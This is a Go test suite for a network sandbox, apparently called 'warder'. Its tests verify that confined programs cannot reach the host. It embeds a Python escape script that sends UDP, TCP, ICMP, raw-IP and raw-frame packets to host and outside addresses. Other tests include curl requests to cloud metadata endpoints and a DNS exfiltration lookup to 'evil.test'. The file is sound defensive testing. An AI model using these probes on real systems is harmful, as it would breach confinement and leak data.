package main

import (
	"fmt"
	"net"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"warder/audit"
)

// listeners receive everything that reaches any address of the host on ports of
// their own, by UDP, TCP and raw sockets.
type listeners struct {
	mu       sync.Mutex
	got      map[string]int
	udp, tcp map[string]int // address family → port
	closers  []func() error
	addrs    []string // addresses of the host
}

func (s *listeners) note(what string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.got[what]++
}

func (s *listeners) counts() map[string]int {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := map[string]int{}
	for k, v := range s.got {
		out[k] = v
	}
	return out
}

const confineMarker = "WARDER-CONFINEMENT-MARKER"

func startListeners(t *testing.T) *listeners {
	t.Helper()
	s := &listeners{got: map[string]int{}, udp: map[string]int{}, tcp: map[string]int{}}
	t.Cleanup(func() {
		for _, c := range s.closers {
			_ = c()
		}
	})
	for _, family := range []string{"4", "6"} {
		pc, err := net.ListenPacket("udp"+family, ":0")
		if err != nil && family == "6" {
			continue // a host without IPv6
		}
		if err != nil {
			t.Fatal(err)
		}
		s.closers = append(s.closers, pc.Close)
		s.udp[family] = pc.LocalAddr().(*net.UDPAddr).Port
		go func() {
			b := make([]byte, 2000)
			for {
				n, _, err := pc.ReadFrom(b)
				if err != nil {
					return
				}
				if strings.Contains(string(b[:n]), confineMarker) {
					s.note("udp" + family)
				}
			}
		}()
		ln, err := net.Listen("tcp"+family, ":0")
		if err != nil {
			t.Fatal(err)
		}
		s.closers = append(s.closers, ln.Close)
		s.tcp[family] = ln.Addr().(*net.TCPAddr).Port
		go func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				s.note("tcp" + family)
				c.Close()
			}
		}()
	}
	s.listenRaw(t)
	ifs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range ifs {
		if n, ok := a.(*net.IPNet); ok && !n.IP.IsLinkLocalUnicast() {
			s.addrs = append(s.addrs, n.IP.String())
		}
	}
	return s
}

// listenRaw sees ICMP on every address; only root may.
func (s *listeners) listenRaw(t *testing.T) {
	if os.Geteuid() != 0 {
		return
	}
	pc, err := net.ListenPacket("ip4:icmp", "0.0.0.0")
	if err != nil {
		t.Fatal(err)
	}
	s.closers = append(s.closers, pc.Close)
	go func() {
		b := make([]byte, 2000)
		for {
			n, _, err := pc.ReadFrom(b)
			if err != nil {
				return
			}
			if strings.Contains(string(b[:n]), confineMarker) {
				s.note("icmp")
			}
		}
	}()
}

// escape tries every way out that a program can try.
const escape = `
import socket, struct, os, sys
marker = b"WARDER-CONFINEMENT-MARKER"
addrs, udp4, udp6, tcp4, tcp6 = sys.argv[1].split(","), *map(int, sys.argv[2:6])
tried = 0
def attempt(f):
    global tried
    tried += 1
    try: f()
    except OSError as e: print("stopped:", e)
def checksum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff); return ~(s + (s >> 16)) & 0xffff
def udp(fam, a, port):
    s = socket.socket(fam, socket.SOCK_DGRAM); s.sendto(marker, (a, port))
def tcp(fam, a, port):
    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3); s.connect((a, port)); s.sendall(marker); print("tcp connected", a, port)
def icmp(kind, a):
    body = marker + b"x" if len(marker) % 2 else marker
    h = struct.pack("!BBHHH", 8, 0, 0, 1, 1); h = struct.pack("!BBHHH", 8, 0, checksum(h + body), 1, 1)
    s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP); s.sendto(h + body, (a, 0))
def raw(a, proto):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(marker), 1, 0, 64, proto, 0, socket.inet_aton("10.0.2.15"), socket.inet_aton(a)); s.sendto(h + marker, (a, 0))
def packet():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3); s.bind(("eth0", 0)); s.send(b"\xff" * 14 + marker)
for a in addrs + ["10.0.2.2", "10.0.2.3", "8.8.8.8", "255.255.255.255", "224.0.0.251"]:
    if ":" in a:
        attempt(lambda: udp(socket.AF_INET6, a, udp6)); attempt(lambda: tcp(socket.AF_INET6, a, tcp6))
        continue
    for port in (udp4, 53, 123, 443): attempt(lambda: udp(socket.AF_INET, a, port))
    attempt(lambda: tcp(socket.AF_INET, a, tcp4))
    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM): attempt(lambda: icmp(kind, a))
    for proto in (1, 2, 17, 41, 47, 50, 132): attempt(lambda: raw(a, proto))
for a in ("::1", "fd00:ec2::254", "2001:db8::1", "fe80::1%eth0", "ff02::1%eth0", "ff02::fb%eth0", "::ffff:127.0.0.1", "64:ff9b::7f00:1"):
    attempt(lambda: udp(socket.AF_INET6, a, udp6)); attempt(lambda: tcp(socket.AF_INET6, a, tcp6))
attempt(packet)
def bind_host():
    own = [a for a in addrs if ":" not in a and not a.startswith("127.")] + ["192.0.2.9"]
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.bind((own[0], 0)); print("bound to a host address")
attempt(bind_host)
print("tried", tried)
`

// TestE2ENoPacketReachesTheHost_F096_F131: no byte but through the pipeline, tried as
// every user the sandbox can have; the same listeners hear the host itself.
func TestE2ENoPacketReachesTheHost_F096_F131(t *testing.T) { // I1, F096, F108, F131
	l := newLab(t)
	l.write("escape.py", escape)
	s := startListeners(t)
	for _, user := range labUsers() {
		o := l.warder("run", "--user", user, "--timeout", "2m", "--input", "escape.py", "--", "python3", "/workspace/escape.py", strings.Join(s.addrs, ","),
			fmt.Sprint(s.udp["4"]), fmt.Sprint(s.udp["6"]), fmt.Sprint(s.tcp["4"]), fmt.Sprint(s.tcp["6"]))
		if o.code != 0 || !strings.Contains(o.stdout, "tried ") {
			t.Fatalf("exit %d\n%s%s", o.code, o.stdout, o.stderr)
		}
		if strings.Contains(o.stdout, "bound to a host address") {
			t.Error("a host address can be bound inside")
		}
	}
	if got := s.counts(); len(got) != 0 {
		t.Errorf("arrived at the host: %v", got)
	}
	var drops, refusals int
	for _, r := range l.records(nil) {
		if r.Event == audit.EventDrop && r.Dropped["udp"] > 0 {
			drops++
		}
		if r.Event == audit.EventRequest && r.Verdict != "allow" {
			refusals++
		}
	}
	if drops != len(labUsers()) || refusals == 0 {
		t.Errorf("the log has %d drop records and %d refused connections", drops, refusals)
	}
	l.mustBeComplete()
	controlListeners(t, s)
}

// controlListeners sends the same to the listeners from the host.
func controlListeners(t *testing.T, s *listeners) {
	t.Helper()
	var want []string
	for family, host := range map[string]string{"4": "127.0.0.1", "6": "::1"} {
		if s.udp[family] == 0 || !slices.Contains(s.addrs, host) {
			continue
		}
		for proto, port := range map[string]int{"udp": s.udp[family], "tcp": s.tcp[family]} {
			c, err := net.Dial(proto, net.JoinHostPort(host, fmt.Sprint(port)))
			if err != nil {
				t.Fatal(err)
			}
			fmt.Fprint(c, confineMarker)
			c.Close()
			want = append(want, proto+family)
		}
	}
	if os.Geteuid() == 0 {
		c, err := net.Dial("ip4:icmp", "127.0.0.1")
		if err != nil {
			t.Fatal(err)
		}
		_, _ = c.Write(append([]byte{8, 0, 0, 0, 0, 1, 0, 1}, confineMarker...))
		c.Close()
		want = append(want, "icmp")
	}
	deadline := time.Now().Add(10 * time.Second)
	for _, w := range want {
		for s.counts()[w] == 0 {
			if time.Now().After(deadline) {
				t.Fatalf("control: the %s listener does not hear the host itself: %v", w, s.counts())
			}
			time.Sleep(time.Millisecond) // waiting for a packet on loopback
		}
	}
}

// TestE2EDirectConnectionsEndAtThePipeline: TCP to real addresses, metadata and
// control ports is answered by the proxy alone.
func TestE2EDirectConnectionsEndAtThePipeline(t *testing.T) { // I1, F022
	l := newLab(t)
	s := startListeners(t)
	script := fmt.Sprintf(`for u in http://169.254.169.254/latest http://192.0.2.9/ http://10.0.2.15.nip.test/ http://100.100.100.200/x; do curl -sS -m 5 -o /dev/null -w '%%{http_code}\n' "$u"; done
curl -sS -m 5 http://127.0.0.1:%d/ 2>&1; curl -sS -m 5 http://198.18.200.200/ 2>&1; true`, s.tcp["4"])
	r, o := l.json(script)
	if o.code != 0 || strings.Count(r.Stdout, "403\n") != 4 {
		t.Errorf("exit %d: %s%s", o.code, r.Stdout, r.Stderr)
	}
	if got := s.counts(); len(got) != 0 {
		t.Errorf("arrived at the host: %v", got)
	}
	unknown := l.records(func(r *audit.Record) bool { return r.Reason == "unknown-address" })
	if len(unknown) != 1 || unknown[0].Stage != audit.StageCompleted || unknown[0].Mode != "refused" {
		t.Errorf("unassigned pool address: %+v", unknown)
	}
	controlListeners(t, s)
}

// TestE2EDNSTellsNothing: look-ups are answered inside and leave no trace outside.
func TestE2EDNSTellsNothing(t *testing.T) { // I1, F108
	l := newLab(t)
	o := l.sh(`python3 -c '
import socket
a = socket.gethostbyname("exfil-0123456789.evil.test")
b = socket.gethostbyname("EXFIL-0123456789.evil.test")
print(a.startswith("198.18."), a == b)
try: print(socket.getaddrinfo("evil.test", 80, socket.AF_INET6))
except OSError as e: print("no IPv6 address")
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x01x\x04test\x00\x00\x01\x00\x01", ("8.8.8.8", 53)); print(s.recv(100))
except OSError: print("no other resolver")
'`)
	if o.stdout != "True True\nno IPv6 address\nno other resolver\n" {
		t.Errorf("exit %d: %s%s", o.code, o.stdout, o.stderr)
	}
}
